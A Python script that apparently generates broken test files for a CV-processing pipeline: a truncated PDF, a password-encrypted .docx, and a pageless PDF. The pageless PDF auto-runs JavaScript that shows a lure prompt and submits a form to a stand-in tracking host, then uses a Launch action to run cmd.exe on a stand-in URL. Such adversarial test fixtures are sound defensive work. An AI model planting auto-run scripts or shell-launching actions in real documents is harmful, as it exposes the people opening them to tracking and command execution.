# -*- coding: utf-8 -*-
"""Three unreadable files. Run with /work/blind/w4/venv/bin/python."""
import os, sys, io, zlib, re
sys.path.insert(0, os.path.dirname(__file__))
from build import BUILD, FILES
from persons import P
import render_docx, render_html, subprocess, copy
import msoffcrypto.format.ooxml
from build import chrome_pdf

os.makedirs(f"{BUILD}/broken", exist_ok=True)

# 044: PDF cut in the middle of the first page's content stream (no xref, no trailer).
# Source: a Chromium-printed CV of a further applicant (same toolchain as the timeline layout).
q = copy.deepcopy(P["p07"]); q.update(name="Andrés Felipe Carrillo Rojas", email="andres.carrillo.md@gmail.com", e164="+573105552741", phone="+57 310 555 2741")
h = f"{BUILD}/broken/src_044.html"; open(h, "w").write(render_html.band(q))
chrome_pdf(h, f"{BUILD}/broken/src_044.pdf")
pdf = open(f"{BUILD}/broken/src_044.pdf", "rb").read()
# find the biggest FlateDecode stream (the page content) and cut 35% into it
best = None
for m in re.finditer(rb"stream\r?\n", pdf):
    start = m.end(); end = pdf.find(b"endstream", start)
    if best is None or end - start > best[1] - best[0]:
        best = (start, end)
cut = best[0] + int((best[1] - best[0]) * 0.35)
open(f"{FILES}/w4_044_truncated.pdf", "wb").write(pdf[:cut])

# 045: a .docx that is really an ECMA-376 Agile-encrypted Office file (OLE/CFB container), password unknown.
dx = f"{BUILD}/broken/plain_045.docx"
render_docx.gdocs(P["p30"], dx)
enc = io.BytesIO()
with open(dx, "rb") as f:
    msoffcrypto.format.ooxml.OOXMLFile(f).encrypt("Lahore#2024", enc)
open(f"{FILES}/w4_045_encrypted.docx", "wb").write(enc.getvalue())

# 046: a syntactically valid PDF whose page tree is empty; it only carries an OpenAction JavaScript and a Launch action.
objs = []
objs.append(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R /Names << /JavaScript 5 0 R >> >>")
objs.append(b"<< /Type /Pages /Kids [] /Count 0 >>")
objs.append(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('Please enable content to view the CV of Dr. Applicant'\\); this.submitForm\\('http://cv-viewer.example/track'\\);) /Next 4 0 R >>")
objs.append(b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c start https://cv-viewer.example/open) >> >>")
objs.append(b"<< /Names [(open) 3 0 R] >>")
out = io.BytesIO(); out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
offs = []
for i, o in enumerate(objs, 1):
    offs.append(out.tell()); out.write(b"%d 0 obj\n" % i + o + b"\nendobj\n")
x = out.tell()
out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
for o in offs: out.write(b"%010d 00000 n \n" % o)
out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x))
open(f"{FILES}/w4_046_jsnopages.pdf", "wb").write(out.getvalue())
print("ok")
